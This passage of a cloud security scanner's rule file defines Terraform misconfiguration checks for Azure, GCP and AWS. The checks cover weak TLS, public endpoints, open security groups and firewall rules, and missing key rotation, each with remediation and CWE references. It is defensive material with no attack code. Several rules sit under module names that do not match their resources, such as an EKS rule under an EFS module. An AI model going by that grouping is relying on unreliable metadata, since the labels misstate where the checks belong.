  deferred("terraform-azurerm-app", { "id": "azure-key-vault-purge-protection", "title": "Key Vault without purge protection", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_key_vault"], "description": "Without purge protection a deleted vault, or a deleted key or secret in it, can be purged immediately instead of staying recoverable for the retention period. An attacker or a mistaken pipeline can then destroy the keys that encrypt your data, making it unreadable for good.", "remediation": "Set `purge_protection_enabled = true` (it cannot be turned off again) and keep `soft_delete_retention_days` at a period you can recover within.", "precision": "very-high", "cwe": ["CWE-693"], "tags": ["azure", "key-vault", "key-management"], "references": ["https://learn.microsoft.com/azure/key-vault/general/soft-delete-overview#purge-protection", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#purge_protection_enabled"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-managed-disk-encryption-disabled", "title": "Managed disk with Azure Disk Encryption explicitly disabled", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_managed_disk"], "description": "The disk's `encryption_settings` block turns Azure Disk Encryption off. The platform still encrypts the disk at rest with a Microsoft-managed key, but nothing encrypts it with keys you hold, so anyone able to export or snapshot the disk can read its contents.", "remediation": "Remove the disabled `encryption_settings` block and encrypt the disk with a customer-managed key through `disk_encryption_set_id`, or configure `encryption_settings` with a Key Vault key.", "precision": "high", "cwe": ["CWE-311"], "tags": ["azure", "managed-disk", "encryption-at-rest"], "references": ["https://learn.microsoft.com/azure/virtual-machines/disk-encryption-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/managed_disk#encryption_settings"] }),
  deferred("terraform-azurerm-redis", { "id": "azure-redis-minimum-tls-version", "title": "Azure Cache for Redis minimum TLS version below 1.2", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_redis_cache"], "description": "The cache accepts TLS 1.0 or 1.1 connections, protocol versions with known weaknesses that Azure is retiring for Redis.", "remediation": 'Set `minimum_tls_version = "1.2"`.', "precision": "very-high", "cwe": ["CWE-326"], "tags": ["azure", "redis", "tls", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/azure-cache-for-redis/cache-remove-tls-10-11", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/redis_cache#minimum_tls_version"] }),
  deferred("terraform-azurerm-redis", { "id": "azure-redis-non-ssl-port", "title": "Azure Cache for Redis non-SSL port enabled", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_redis_cache"], "description": "The non-SSL port (6379) accepts unencrypted connections: the access key sent by clients and all cached data cross the network in plain text.", "remediation": "Remove the setting or set `non_ssl_port_enabled = false` (`enable_non_ssl_port = false` before azurerm 4.0) and connect over TLS on port 6380.", "precision": "very-high", "cwe": ["CWE-319"], "tags": ["azure", "redis", "tls", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/azure-cache-for-redis/cache-configure#access-ports", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/redis_cache#non_ssl_port_enabled"] }),
  deferred("terraform-azurerm-storage", { "id": "azure-storage-https-only-disabled", "title": "Storage account accepts plain HTTP (secure transfer / HTTPS only disabled)", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_storage_account"], "description": "With secure transfer turned off the account serves its REST endpoints over unencrypted HTTP, so data, shared keys in headers and SAS tokens in URLs can be read or altered by anyone on the network path.", "remediation": "Remove the setting or set `https_traffic_only_enabled = true` (`enable_https_traffic_only = true` before azurerm 4.0).", "precision": "very-high", "cwe": ["CWE-319"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["3.1"] }, "tags": ["azure", "storage", "https", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/storage/common/storage-require-secure-transfer", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#https_traffic_only_enabled"] }),
  deferred("terraform-azurerm-storage", { "id": "azure-storage-minimum-tls-version", "title": "Storage account minimum TLS version below 1.2", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_storage_account"], "description": "The account accepts TLS 1.0 or 1.1, protocol versions with known weaknesses that Azure is retiring. When `min_tls_version` is not set, azurerm provider versions before 3.0 create the account with TLS 1.0 allowed, and the setting in force is not visible in code.", "remediation": 'Set `min_tls_version = "TLS1_2"` on the storage account.', "precision": "high", "cwe": ["CWE-326"], "tags": ["azure", "storage", "tls", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/storage/common/transport-layer-security-configure-minimum-version", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#min_tls_version"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-disk-cmek", "title": "Persistent disk not encrypted with a customer-managed key (CMEK/CSEK)", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["google_compute_disk", "google_compute_region_disk"], "description": "The disk relies on Google-managed encryption keys only. Its data is encrypted at rest, but you cannot revoke or audit the key, so deleting or disabling access to the data rests entirely with IAM on the disk and its snapshots.", "remediation": "Set `disk_encryption_key { kms_key_self_link = google_kms_crypto_key.disks.id }` (CMEK) or a customer-supplied key (`raw_key` / `rsa_encrypted_key`) for disks holding sensitive data.", "precision": "medium", "cwe": ["CWE-311"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.7"] }, "tags": ["gcp", "compute", "disk", "encryption-at-rest", "cmek"], "references": ["https://cloud.google.com/compute/docs/disks/customer-managed-encryption", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_disk#disk_encryption_key"] }),
  deferred("terraform-google-kms", { "id": "gcp-kms-key-rotation", "title": "Cloud KMS key without automatic key rotation within 90 days", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["google_kms_crypto_key"], "description": "The symmetric key has no `rotation_period`, or one longer than 90 days. Without rotation a single key version protects an ever-growing amount of data, and a compromised version stays useful to an attacker indefinitely.", "remediation": 'Set `rotation_period = "7776000s"` (90 days) or shorter on the crypto key.', "precision": "very-high", "cwe": ["CWE-324"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["1.10"] }, "tags": ["gcp", "kms", "key-rotation", "key-management"], "references": ["https://cloud.google.com/kms/docs/key-rotation", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/kms_crypto_key#rotation_period"] }),
  deferred("terraform-google-kms", { "id": "gcp-sql-ssl-not-required", "title": "Cloud SQL instance does not require SSL/TLS connections", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["google_sql_database_instance"], "description": 'Neither `ssl_mode = "ENCRYPTED_ONLY"` (or `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`) nor `require_ssl = true` is set, so clients may connect without encryption and credentials and query results can cross the network in plain text.', "remediation": 'Set `ssl_mode = "ENCRYPTED_ONLY"` (or `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`) in `settings.ip_configuration`; on older providers set `require_ssl = true`.', "precision": "high", "cwe": ["CWE-319"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["6.4"] }, "tags": ["gcp", "cloud-sql", "ssl", "tls", "encryption-in-transit"], "references": ["https://cloud.google.com/sql/docs/postgres/configure-ssl-instance", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#ssl_mode"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-default-security-group-allows-traffic", "title": "Default security group of the VPC allows traffic", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_default_security_group"], "description": "The VPC's default security group declares ingress or egress rules. Resources launched without an explicit security group land in it silently, so any rule here grants them network access nobody chose.", "remediation": "Declare `aws_default_security_group` with no `ingress` or `egress` blocks so it denies all traffic, and attach purpose-built security groups to every resource.", "precision": "high", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["5.4"] }, "tags": ["security-group", "vpc", "network-exposure"], "references": ["https://docs.aws.amazon.com/vpc/latest/userguide/default-security-group.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/default_security_group"] }),
  deferred("terraform-aws-dms", { "id": "aws-dms-replication-instance-public", "title": "DMS replication instance is publicly accessible", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_dms_replication_instance"], "description": "The replication instance gets a public IP address, either because `publicly_accessible = true` or because the setting is left out and DMS defaults to public. The instance holds credentials for both source and target databases and streams their data.", "remediation": "Set `publicly_accessible = false` and connect the instance to its endpoints through private subnets, VPC peering or a VPN.", "precision": "high", "cwe": ["CWE-284"], "tags": ["dms", "network-exposure"], "references": ["https://docs.aws.amazon.com/dms/latest/userguide/CHAP_ReplicationInstance.PublicPrivate.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dms_replication_instance#publicly_accessible"] }),
  deferred("terraform-aws-instance", { "id": "aws-ec2-instance-public-ip", "title": "EC2 instance is given a public IP address", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_instance"], "description": "`associate_public_ip_address = true` puts the instance directly on the internet. Its security groups become the only barrier, and a single rule widened by mistake exposes it; most workloads are better served behind a load balancer or NAT gateway.", "remediation": "Set `associate_public_ip_address = false`, place the instance in a private subnet, and publish it through a load balancer; use Session Manager instead of SSH for administration.", "precision": "medium", "cwe": ["CWE-284"], "tags": ["ec2", "public-ip", "network-exposure"], "references": ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/using-instance-addressing.html#concepts-public-addresses", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#associate_public_ip_address"] }),
  deferred("terraform-aws-efs", { "id": "aws-eks-public-endpoint", "title": "EKS cluster API endpoint is publicly accessible from 0.0.0.0/0", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_eks_cluster"], "description": "The Kubernetes API server has a public endpoint (the default) and `public_access_cidrs` is left open to `0.0.0.0/0`. Anyone on the internet can reach the API to probe it, try stolen credentials or exploit an API server vulnerability.", "remediation": "Set `endpoint_public_access = false` and `endpoint_private_access = true`, or restrict `public_access_cidrs` to the networks of your administrators and CI.", "precision": "high", "cwe": ["CWE-284"], "tags": ["eks", "kubernetes", "network-exposure"], "references": ["https://docs.aws.amazon.com/eks/latest/userguide/cluster-endpoint.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#public_access_cidrs"] }),
  deferred("terraform-aws-instance", { "id": "aws-instance-public-ip-sensitive-port-open", "title": "EC2 instance with a public IP reachable from the internet on an administration or database port", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_instance"], "description": "The instance gets a public IP address (`associate_public_ip_address = true`, or a subnet with `map_public_ip_on_launch = true`) and one of its security groups lets `0.0.0.0/0` or `::/0` reach SSH, RDP, a database or every port. The instance itself, not just a rule on paper, is then exposed to the scanning and brute-forcing that starts minutes after an address goes live.", "remediation": "Keep the instance in a private subnet without a public IP and reach it through AWS Systems Manager Session Manager, a bastion or a VPN; or restrict the security group's ingress to known networks.", "precision": "high", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["5.2", "5.3"] }, "tags": ["ec2", "security-group", "network-exposure"], "references": ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/using-instance-addressing.html"] }),
  deferred("terraform-aws-lambda", { "id": "aws-launch-template-public-ip", "title": "Launch template or configuration gives instances a public IP", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_launch_template", "aws_launch_configuration"], "description": "Every instance launched from this template (typically a whole Auto Scaling group) gets a public IP address and is directly reachable from the internet, guarded only by its security groups.", "remediation": "Set `associate_public_ip_address = false` (in `network_interfaces` for a launch template), launch into private subnets, and put a load balancer in front.", "precision": "medium", "cwe": ["CWE-284"], "tags": ["ec2", "autoscaling", "public-ip", "network-exposure"], "references": ["https://docs.aws.amazon.com/autoscaling/ec2/userguide/create-launch-template.html#change-network-interface", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/launch_template#associate_public_ip_address"] }),
  deferred("terraform-aws-lb", { "id": "aws-mq-broker-publicly-accessible", "title": "Amazon MQ broker is publicly accessible", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_mq_broker"], "description": "`publicly_accessible = true` gives the message broker public endpoints for its messaging protocols and web console, reachable by anyone on the internet who can guess or steal a broker user's password.", "remediation": "Set `publicly_accessible = false` (this recreates the broker) and connect producers and consumers from inside the VPC.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["mq", "network-exposure"], "references": ["https://docs.aws.amazon.com/amazon-mq/latest/developer-guide/using-amazon-mq-securely.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/mq_broker#publicly_accessible"] }),
  deferred("terraform-aws-lb", { "id": "aws-network-acl-ingress-open", "title": "Network ACL allows ingress from 0.0.0.0/0 to administration ports or all ports", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_network_acl", "aws_default_network_acl", "aws_network_acl_rule"], "description": "An inbound network ACL entry allows the internet (`0.0.0.0/0` or `::/0`) to reach every port, or a remote-administration or database port, of the subnets it covers. The ACL then adds no protection behind the security groups: one permissive security group is enough to expose the service.", "remediation": "Allow only the ports the subnet serves publicly (for example 443 and the ephemeral return range), and deny or restrict SSH, RDP and database ports to known networks.", "precision": "medium", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["5.1"] }, "tags": ["network-acl", "nacl", "network-exposure"], "references": ["https://docs.aws.amazon.com/vpc/latest/userguide/vpc-network-acls.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/network_acl_rule"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-opensearch-not-in-vpc", "title": "OpenSearch / Elasticsearch domain has a public endpoint (not in a VPC)", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_opensearch_domain", "aws_elasticsearch_domain"], "description": "Without `vpc_options` the domain gets a public endpoint reachable from the internet; only its access policy decides who gets in, and no security group or network control applies. Public search clusters are a frequent source of data leaks.", "remediation": "Create the domain inside the VPC with `vpc_options { subnet_ids = […] security_group_ids = […] }` (this requires a new domain) and reach it through private networking.", "precision": "high", "cwe": ["CWE-284"], "tags": ["opensearch", "elasticsearch", "network-exposure"], "references": ["https://docs.aws.amazon.com/opensearch-service/latest/developerguide/vpc.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#vpc_options"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-rds-publicly-accessible", "title": "RDS database instance is publicly accessible", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_db_instance", "aws_rds_cluster_instance"], "description": "`publicly_accessible = true` gives the instance a public DNS name and address. Only its security groups then stand between the database and the internet.", "remediation": "Set `publicly_accessible = false` and reach the database from inside the VPC (application subnets, a bastion or a VPN).", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["2.3.3"] }, "tags": ["rds", "network-exposure"], "references": ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-redshift-publicly-accessible", "title": "Redshift cluster is publicly accessible", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_redshift_cluster"], "description": "`publicly_accessible = true` gives the data warehouse a public IP address and a DNS name that resolves to it from the internet; only its security groups then keep attackers away from the database port.", "remediation": "Set `publicly_accessible = false` and reach the cluster from inside the VPC, through a VPN, or with Redshift-managed VPC endpoints.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["redshift", "network-exposure"], "references": ["https://docs.aws.amazon.com/redshift/latest/mgmt/managing-clusters-vpc.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/redshift_cluster#publicly_accessible"] }),
  deferred("terraform-aws-s3", { "id": "aws-sagemaker-notebook-direct-internet-access", "title": "SageMaker notebook instance has direct internet access", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_sagemaker_notebook_instance"], "description": "Direct internet access (the default) gives the notebook a network path to the internet that bypasses the VPC's controls, so code run in it can download anything and send data anywhere.", "remediation": 'Set `direct_internet_access = "Disabled"` with `subnet_id` and `security_groups`, and reach the internet, if needed, through a NAT gateway or VPC endpoints you control.', "precision": "high", "cwe": ["CWE-284"], "tags": ["sagemaker", "network-exposure", "internet"], "references": ["https://docs.aws.amazon.com/sagemaker/latest/dg/appendix-notebook-and-internet-access.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sagemaker_notebook_instance#direct_internet_access"] }),
  deferred("terraform-aws-security", { "id": "aws-security-group-all-ports-open", "title": "Security group opens all ports or all protocols to the internet (0.0.0.0/0)", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule"], "description": "An ingress rule allows `0.0.0.0/0` or `::/0` on every port (protocol `-1`, or ports 0–65535). Every service on the attached instances, including administration and database ports and anything started later, is reachable from the whole internet.", "remediation": "Replace the rule with rules for the specific ports the service needs, and restrict their sources to known CIDR ranges or other security groups.", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["5.2", "5.3"] }, "tags": ["security-group", "network-exposure"], "references": ["https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group#ingress"] }),
  deferred("terraform-aws-security", { "id": "aws-security-group-sensitive-port-open", "title": "Security group opens an administration or database port to the internet", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule"], "description": "An ingress rule allows `0.0.0.0/0` or `::/0` to reach a port used for remote administration (SSH, RDP, WinRM, VNC) or a database or cluster service (PostgreSQL, MySQL, Redis, Elasticsearch, etcd, the Kubernetes API…). These ports are scanned and brute-forced within minutes of exposure.", "remediation": "Restrict the rule's CIDR ranges to known networks, reach administration through a bastion, VPN or AWS Systems Manager Session Manager, and keep databases in private subnets reachable only from application security groups.", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["5.2", "5.3"] }, "tags": ["security-group", "network-exposure"], "references": ["https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html"] }),
  deferred("terraform-aws-security", { "id": "aws-security-group-wide-port-range-open", "title": "Security group opens a wide port range to the internet (0.0.0.0/0)", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule"], "description": "An ingress rule lets `0.0.0.0/0` or `::/0` reach more than a hundred ports at once. Whatever listens in that range now or later (debug servers, node ports, ephemeral services) is exposed to the internet. Ranges that include administration or database ports, and all-port rules, are reported by their own rules.", "remediation": "Open only the ports the service needs, and restrict the sources to known CIDR ranges, a load balancer or other security groups.", "precision": "high", "cwe": ["CWE-284"], "frameworks": { "CIS AWS Foundations 3.0": ["5.2", "5.3"] }, "tags": ["security-group", "network-exposure"], "references": ["https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html"] }),
  deferred("terraform-aws-security", { "id": "aws-subnet-public-ip-on-launch", "title": "Subnet assigns a public IP to every instance launched in it", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["aws_subnet", "aws_default_subnet"], "description": "`map_public_ip_on_launch = true` gives every instance, container task or node started in the subnet a public IP address, whether or not it is meant to be reachable from the internet.", "remediation": "Set `map_public_ip_on_launch = false`, keep workloads in private subnets behind NAT, and request public addresses explicitly only for the few resources that need them.", "precision": "medium", "cwe": ["CWE-284"], "tags": ["vpc", "subnet", "public-ip", "network-exposure"], "references": ["https://docs.aws.amazon.com/vpc/latest/userguide/vpc-ip-addressing.html#subnet-public-ip", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/subnet#map_public_ip_on_launch"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-aks-api-server-public", "title": "AKS API server publicly accessible (not a private cluster, no authorized IP ranges)", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_kubernetes_cluster"], "description": "The cluster is not private and does not restrict its API server to authorized IP ranges, so the Kubernetes control plane answers anyone on the internet. Leaked kubeconfigs and credential or API server vulnerabilities are then exploitable from anywhere.", "remediation": "Make it a private cluster (`private_cluster_enabled = true`), or list the networks allowed to reach the API server in `api_server_access_profile { authorized_ip_ranges = [...] }`.", "precision": "high", "cwe": ["CWE-284"], "tags": ["azure", "aks", "kubernetes", "network-exposure", "private-cluster"], "references": ["https://learn.microsoft.com/azure/aks/api-server-authorized-ip-ranges", "https://learn.microsoft.com/azure/aks/private-clusters", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#api_server_access_profile"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-aks-network-policy-missing", "title": "AKS cluster without a network policy engine", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_kubernetes_cluster"], "description": "No `network_profile.network_policy` is set, so Kubernetes NetworkPolicy objects are not enforced and every pod can reach every other pod. One compromised workload can then talk to databases and internal services across namespaces. The network policy engine can only be chosen when the cluster is created.", "remediation": 'Set `network_profile { network_plugin = "azure", network_policy = "azure" }` (or `calico` or `cilium`) and add NetworkPolicies that deny by default.', "precision": "high", "cwe": ["CWE-923"], "tags": ["azure", "aks", "kubernetes", "network-policy"], "references": ["https://learn.microsoft.com/azure/aks/use-network-policies", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#network_policy"] }),
  deferred("terraform-azurerm-app", { "id": "azure-cosmosdb-public-network-access", "title": "Cosmos DB account publicly accessible from all networks", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_cosmosdb_account"], "description": "Public network access is on (the provider default) and neither an IP range filter nor a virtual network filter narrows it, so the account's endpoint accepts connections from the whole internet. A leaked account key is then usable from anywhere.", "remediation": "Set `public_network_access_enabled = false` and use a private endpoint, or restrict access with `ip_range_filter` and `is_virtual_network_filter_enabled = true` with `virtual_network_rule` blocks.", "precision": "high", "cwe": ["CWE-284"], "tags": ["azure", "cosmos-db", "network-exposure"], "references": ["https://learn.microsoft.com/azure/cosmos-db/how-to-configure-firewall", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/cosmosdb_account#public_network_access_enabled"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-database-public-network-access", "title": "Database server has public network access enabled", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_mssql_server", "azurerm_mysql_server", "azurerm_postgresql_server", "azurerm_mariadb_server", "azurerm_mysql_flexible_server", "azurerm_postgresql_flexible_server"], "description": "The server has a public endpoint reachable from the internet, and only its firewall rules and credentials stand between it and attackers. Single servers (SQL, MySQL, PostgreSQL, MariaDB) are publicly accessible unless `public_network_access_enabled = false` is set.", "remediation": "Set `public_network_access_enabled = false` and connect through a private endpoint or VNet integration; if a public endpoint is unavoidable, keep the firewall rules to known addresses.", "precision": "high", "cwe": ["CWE-284"], "tags": ["azure", "database", "network-exposure"], "references": ["https://learn.microsoft.com/azure/azure-sql/database/connectivity-settings", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#public_network_access_enabled", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_server#public_network_access_enabled"] }),
  deferred("terraform-azurerm-app", { "id": "azure-key-vault-network-default-allow", "title": "Key Vault reachable from all networks (no network ACLs or default action Allow)", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_key_vault"], "description": "Without `network_acls` denying by default, the vault's public endpoint accepts requests from any network. Access policies or RBAC still apply, but a stolen token or client secret can then be used from anywhere on the internet.", "remediation": 'Add `network_acls { default_action = "Deny", bypass = "AzureServices" }` with the `ip_rules` and `virtual_network_subnet_ids` that need access, or set `public_network_access_enabled = false` and use a private endpoint.', "precision": "high", "cwe": ["CWE-284"], "tags": ["azure", "key-vault", "network-exposure"], "references": ["https://learn.microsoft.com/azure/key-vault/general/network-security", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#network_acls"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-nsg-all-ports-open-to-internet", "title": "Network security group allows all ports from the internet", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_network_security_group", "azurerm_network_security_rule"], "description": "An inbound Allow rule opens every destination port (`*` or `0-65535`) to any source on the internet. Every service on the machines behind it, including management agents and databases never meant to be public, becomes reachable.", "remediation": "Replace the rule with rules for the specific ports the service offers, and restrict their sources to the networks that need them.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["azure", "nsg", "network-exposure"], "references": ["https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_group"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-nsg-sensitive-port-open-to-internet", "title": "Network security group opens a database or administration port to the internet", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_network_security_group", "azurerm_network_security_rule"], "description": "An inbound Allow rule lets any internet source reach a port used by a database, a cache, a cluster service or a remote administration protocol other than SSH and RDP (SQL Server, PostgreSQL, MySQL, Redis, WinRM, SMB, the Kubernetes API…). These services are rarely meant to be public and are among the first things attackers probe.", "remediation": "Restrict the rule's source to the application subnets or known networks, and reach data services through private endpoints or VNet integration.", "precision": "high", "cwe": ["CWE-284"], "tags": ["azure", "nsg", "network-exposure"], "references": ["https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_rule"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-nsg-ssh-rdp-open-to-internet", "title": "Network security group allows SSH or RDP from the internet", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_network_security_group", "azurerm_network_security_rule"], "description": "An inbound Allow rule lets any source (`*`, `Internet`, `0.0.0.0/0`) reach port 22 (SSH) or 3389 (RDP). Both are scanned and brute-forced continuously; one weak password or unpatched service gives an attacker a shell on the machine.", "remediation": "Restrict `source_address_prefix` to known administration networks, or remove the rule and connect through Azure Bastion, a VPN or just-in-time VM access.", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["6.1", "6.2"] }, "tags": ["azure", "nsg", "network-exposure", "ssh", "rdp"], "references": ["https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_rule"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-postgresql-connection-throttling-disabled", "title": "PostgreSQL connection throttling turned off", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_postgresql_configuration", "azurerm_postgresql_flexible_server_configuration"], "description": "Connection throttling makes Azure Database for PostgreSQL slow down clients after repeated failed logins from the same address. It is a network-facing defence: turned off, password guessing and connection floods against the server endpoint run at full speed.", "remediation": 'Remove the configuration resource or set its `value = "on"` (`connection_throttling` on single server, `connection_throttle.enable` on flexible server).', "precision": "very-high", "cwe": ["CWE-307"], "frameworks": { "CIS Azure 1.3.0": ["4.3.5"] }, "tags": ["azure", "postgresql", "database", "brute-force", "throttling"], "references": ["https://learn.microsoft.com/azure/postgresql/single-server/concepts-server-parameters", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_configuration"] }),
  deferred("terraform-azurerm-redis", { "id": "azure-sql-firewall-open-to-internet", "title": "Database firewall rule allows the whole internet (0.0.0.0-255.255.255.255)", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_sql_firewall_rule", "azurerm_mssql_firewall_rule", "azurerm_mysql_firewall_rule", "azurerm_mysql_flexible_server_firewall_rule", "azurerm_postgresql_firewall_rule", "azurerm_postgresql_flexible_server_firewall_rule", "azurerm_mariadb_firewall_rule"], "description": "A server-level firewall rule whose range spans the IPv4 internet (such as `0.0.0.0` to `255.255.255.255`) lets any host connect to the database endpoint, leaving only the login between the data and password-spraying attackers. The `0.0.0.0`–`0.0.0.0` rule that admits Azure services is not reported.", "remediation": "Replace the rule with the specific client addresses that need access, or disable public network access and use a private endpoint.", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["4.1.2"] }, "tags": ["azure", "database", "network-exposure", "firewall"], "references": ["https://learn.microsoft.com/azure/azure-sql/database/firewall-configure", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_firewall_rule"] }),
  deferred("terraform-azurerm-storage", { "id": "azure-storage-network-default-allow", "title": "Storage account network rules allow access from all networks (default action Allow)", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["azurerm_storage_account", "azurerm_storage_account_network_rules"], "description": 'With `default_action = "Allow"` the storage firewall admits connections from any network, including the public internet, and the IP and subnet rules beside it restrict nothing. A leaked key or SAS token is then usable from anywhere.', "remediation": 'Set `default_action = "Deny"` and list the networks that need access in `ip_rules` and `virtual_network_subnet_ids`, or reach the account through a private endpoint.', "precision": "very-high", "cwe": ["CWE-284"], "tags": ["azure", "storage", "network-exposure"], "references": ["https://learn.microsoft.com/azure/storage/common/storage-network-security", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account_network_rules"] }),
